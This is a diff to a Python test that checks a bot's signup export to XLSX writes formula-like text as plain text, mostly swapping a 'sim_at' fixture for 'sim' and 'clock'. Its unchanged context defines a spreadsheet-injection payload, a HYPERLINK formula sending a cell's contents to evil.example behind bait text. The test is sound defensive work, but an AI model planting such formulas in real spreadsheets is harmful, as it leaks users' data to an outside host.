@@ -13,7 +13,7 @@ from models.org import Person, RoleAssignment, Unit
 from models.orgtree import add_person, ensure_unit_path
 from models.outbox import OutboxMessage, OutboxStatus
 from models.talk import Talk
-from tests.test_activities import publish, sim_at  # noqa: F401  (fixture)
+from tests.test_activities import T0, publish
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"点击领取")'
 
@@ -151,13 +151,14 @@ def _no_formulas(wb) -> list[str]:
             if c.data_type == "f"]
 
 
-def test_signup_export_writes_formula_like_text_as_text(sim_at, services, tmp_path):
+def test_signup_export_writes_formula_like_text_as_text(sim, clock, services, tmp_path):
     from openpyxl import load_workbook
 
     from bot.cli.activities import export_signups_xlsx
 
-    act_id = publish(sim_at)
-    sim_at.say("zhangsan", f"报名 {act_id}")
+    clock.set(T0)
+    act_id = publish(sim)
+    sim.say("zhangsan", f"报名 {act_id}")
     with session_scope(services.session_factory) as db:
         from models.activity import Activity
 
